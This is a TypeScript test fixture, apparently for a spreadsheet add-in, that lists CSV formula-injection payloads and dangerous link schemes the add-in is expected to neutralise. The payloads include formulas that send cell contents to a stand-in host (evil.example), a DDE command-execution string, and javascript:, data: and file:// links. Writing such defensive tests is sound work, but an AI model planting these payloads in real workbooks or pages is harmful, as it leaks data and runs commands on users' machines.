/**
 * Texts that would compute CANARY if a program took them for formulas (OWASP, "CSV Injection": cells that begin with =,
 * +, -, @, a tab, a line break or the wide forms of the signs).
 */
import type { Standin } from "../../../src/standin/standin";

export const AS_OF = "2027-03-20";
export const CANARY = 40_002;
export const SUM = "40000+2";
export const PAYLOADS = [
  `=${SUM}`,
  `+${SUM}`,
  "-(-40000)+2",
  "@SUM(40000,2)",
  `\t=${SUM}`,
  `\r=${SUM}`,
  `\n=${SUM}`,
  ` =${SUM}`,
  `\uFF1D${SUM}`,
  `\uFF0B${SUM}`,
  `\uFF0D(-40000)+2`,
  `\uFF20SUM(40000,2)`,
  `=HYPERLINK("https://evil.example/?"&A1,${SUM})`,
  `=WEBSERVICE("https://evil.example/?"&A1)&${SUM}`,
  "=cmd|' /C calc'!A0",
  `-2+3+cmd|' /C calc'!A0`,
  `",=${SUM},"`,
  `';=${SUM}`,
  `{=${SUM}}`,
  `"&(${SUM})&"`,
] as const;

/** Where links of a plan may lead (OWASP, "Cross-Site Scripting Prevention": dangerous schemes). */
export const LINKS = [
  "javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "file:///c:/windows/system32/cmd.exe",
  "https://evil.example/",
];

/** A workbook into which the add-in has written all that it writes. */
export interface HostileWorkbook {
  readonly standin: Standin;
  /** The sheets that it made. */
  readonly made: readonly string[];
  /** Those that staff keep, or a copy of one: links that they held stay theirs. */
  readonly plans: readonly string[];
}
